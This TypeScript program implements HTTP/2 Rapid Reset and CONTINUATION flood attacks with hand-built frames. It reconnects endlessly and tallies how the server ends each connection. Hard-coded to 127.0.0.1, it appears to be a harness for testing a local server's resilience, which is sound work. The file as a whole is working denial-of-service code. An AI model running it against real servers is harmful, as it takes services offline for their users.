// A program: floods a server with HTTP/2 frames made by hand, on a few connections, each opened anew as soon as it is closed. Ends on SIGTERM and says
// on stderr how its connections ended.

import { setPriority } from "node:os";
import { connect, type TLSSocket } from "node:tls";

export interface H2FloodOptions {
  readonly kind: "rapid-reset" | "continuation";
  readonly port: number;
  readonly host: string;
  readonly connections: number;
}

const { kind, port, host, connections } = JSON.parse(process.argv[2]!) as H2FloodOptions;

// RFC 9113, sections 6 and 7.
const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const GOAWAY = 7;
const CONTINUATION = 9;
const END_STREAM = 0x1;
const END_HEADERS = 0x4;
const CANCEL = Buffer.from([0, 0, 0, 8]);
const ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR"];
const ENHANCE_YOUR_CALM = 11;

const OPENING = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(SETTINGS, 0, 0)]);
/** HPACK: GET, https and / from the static table, then :authority with its value (RFC 7541, appendix A and section 6.2.1). */
const HEAD = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x41, host.length]), Buffer.from(host)]);
/** Fields that are not to be remembered, 4 kB of them (section 6.2.2). */
const MORE_FIELDS = Buffer.concat(
  Array.from({ length: 128 }, () => Buffer.concat([Buffer.from([0, 5]), Buffer.from("x-mor"), field("v", 24)])),
);
const STREAMS_AT_ONCE = 50;
const CONTINUATIONS_AT_ONCE = 4;

/** How connections ended, and how often. */
const ends = new Map<string, number>();
let written = 0;

// It gives way to the client whose latency is measured on the same core: what counts is what happens in the server.
setPriority(19);
process.on("SIGTERM", () => {
  const told = [...ends].map(([how, times]) => `${times} × ${how}`).join(", ");
  console.error(`${kind}: ${written} frames; connections ended: ${told || "none"}`);
  process.exit(0);
});
for (let i = 0; i < connections; i++) open();

function open(): void {
  const socket = connect({ port, host: "127.0.0.1", servername: host, ALPNProtocols: ["h2"], rejectUnauthorized: false });
  let how = "closed without a word";
  let rest: Buffer = Buffer.alloc(0);
  socket.on("secureConnect", () => {
    if (written === 0) console.log("ready");
    socket.write(OPENING);
    const next = kind === "rapid-reset" ? resets() : continuations();
    pour(socket, next);
    socket.on("drain", () => pour(socket, next));
  });
  socket.on("data", (chunk: Buffer) => {
    rest = Buffer.concat([rest, chunk]);
    while (rest.length >= 9 && rest.length >= 9 + rest.readUIntBE(0, 3)) {
      if (rest[3] === GOAWAY) how = `GOAWAY ${errorName(rest.readUInt32BE(13))}`;
      rest = rest.subarray(9 + rest.readUIntBE(0, 3));
    }
  });
  socket.on("error", ({ code }: NodeJS.ErrnoException) => {
    if (how === "closed without a word") how = code ?? "error";
  });
  socket.on("close", () => {
    ends.set(how, (ends.get(how) ?? 0) + 1);
    open();
  });
}

/** Writes batches until the socket has enough; on the next turn of the loop, so that what the server says is heard. */
function pour(socket: TLSSocket, next: () => Buffer): void {
  if (socket.destroyed || !socket.writable) return;
  if (socket.write(next())) setImmediate(pour, socket, next);
}

function resets(): () => Buffer {
  let stream = -1;
  return () => {
    written += 2 * STREAMS_AT_ONCE;
    const frames = Array.from({ length: STREAMS_AT_ONCE }, () => {
      stream += 2;
      return [frame(HEADERS, END_STREAM | END_HEADERS, stream, HEAD), frame(RST_STREAM, 0, stream, CANCEL)];
    });
    return Buffer.concat(frames.flat());
  };
}

function continuations(): () => Buffer {
  const more = Buffer.concat(Array.from({ length: CONTINUATIONS_AT_ONCE }, () => frame(CONTINUATION, 0, 1, MORE_FIELDS)));
  let isOpen = false;
  return () => {
    written += CONTINUATIONS_AT_ONCE;
    if (isOpen) return more;
    isOpen = true;
    return Buffer.concat([frame(HEADERS, END_STREAM, 1, HEAD), more]);
  };
}

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

function field(letter: string, length: number): Buffer {
  return Buffer.concat([Buffer.from([length]), Buffer.alloc(length, letter)]);
}

function errorName(code: number): string {
  return code === ENHANCE_YOUR_CALM ? "ENHANCE_YOUR_CALM" : (ERRORS[code] ?? `error ${code}`);
}
